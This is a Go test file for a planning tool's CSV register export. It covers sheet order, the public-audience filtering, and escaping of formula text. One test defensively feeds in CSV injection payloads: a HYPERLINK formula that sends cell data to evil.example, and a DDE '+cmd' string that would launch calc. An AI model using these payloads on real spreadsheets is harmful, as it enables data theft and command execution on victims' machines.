package render

import (
	"bytes"
	"strings"
	"testing"

	"github.com/plan-tool/plan/plan"
)

// bradfordRegister is the register of the Bradford example on asOf, with
// two completion dates as history would give them.
func bradfordRegister(t *testing.T, audience plan.Audience) plan.Register {
	t.Helper()
	p := loadExample(t, "bradford").ForAudience(audience)
	return p.Register(asOf, audience, map[string]plan.Date{"P1.1": plan.NewDate(2026, 1, 30), "P8.2": plan.NewDate(2025, 12, 19)})
}

func TestRegisterCSV(t *testing.T) {
	r := bradfordRegister(t, plan.ForInternal)
	for _, name := range CSVSheets {
		t.Run(name, func(t *testing.T) {
			s, ok := RegisterSheet(r, name)
			if !ok {
				t.Fatalf("no sheet %s", name)
			}
			var buf bytes.Buffer
			if err := RegisterCSV(&buf, s); err != nil {
				t.Fatal(err)
			}
			golden(t, "register-"+name+".csv.golden", buf.Bytes())
		})
	}
	pub := bradfordRegister(t, plan.ForPublic)
	s, _ := RegisterSheet(pub, "Actions")
	var buf bytes.Buffer
	if err := RegisterCSV(&buf, s); err != nil {
		t.Fatal(err)
	}
	golden(t, "register-actions-public.csv.golden", buf.Bytes())
	if strings.Contains(buf.String(), "Visibility") || strings.Contains(buf.String(), "P7.10") {
		t.Error("the public actions have a Visibility column or the internal action P7.10")
	}
}

func TestRegisterSheetsOrder(t *testing.T) {
	var names []string
	for _, s := range RegisterSheets(bradfordRegister(t, plan.ForInternal)) {
		names = append(names, s.Name)
	}
	if got := strings.Join(names, ","); got != "Summary,Actions,KPIs,Findings,Glossary" {
		t.Errorf("sheets %s", got)
	}
	if _, ok := RegisterSheet(plan.Register{}, "glossaries"); ok {
		t.Error("found a sheet that is not there")
	}
}

// TestRegisterCSVFormulaSafe: text a spreadsheet would run is written
// with a ' before it; numbers, negative ones included, as they are.
func TestRegisterCSVFormulaSafe(t *testing.T) {
	r := plan.Register{Audience: plan.ForInternal, KPIs: []plan.RegisterActual{{
		ID: "K1", Title: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Unit: "+cmd|' /C calc'!A0", OwnerName: "@owner",
		Date: plan.NewDate(2026, 3, 31), Value: -2.5, Target: -1, Tolerance: 0.5,
		Rating: plan.Rating{RAG: plan.Red}, Direction: plan.Worsening,
	}}}
	s, _ := RegisterSheet(r, "kpis")
	var buf bytes.Buffer
	if err := RegisterCSV(&buf, s); err != nil {
		t.Fatal(err)
	}
	want := "Ref,KPI,Priority ref,Owner ref,Owner,Unit,Better,Frequency,Date,Value,Target,Tolerance,Rating,Direction,Visibility\n" +
		`K1,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,,'@owner,'+cmd|' /C calc'!A0,,,2026-03-31,-2.5,-1,0.5,Red,worsening,` + "\n"
	if buf.String() != want {
		t.Errorf("got\n%s\nwant\n%s", buf.String(), want)
	}
}
